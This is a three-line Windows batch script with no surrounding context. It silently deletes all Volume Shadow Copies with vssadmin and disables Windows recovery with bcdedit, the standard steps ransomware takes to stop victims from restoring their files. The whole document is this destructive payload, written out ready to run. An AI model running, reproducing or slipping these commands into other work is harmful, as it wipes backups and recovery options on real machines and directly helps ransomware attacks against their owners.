@echo off
vssadmin.exe delete shadows /all /quiet
bcdedit /set {default} recoveryenabled no
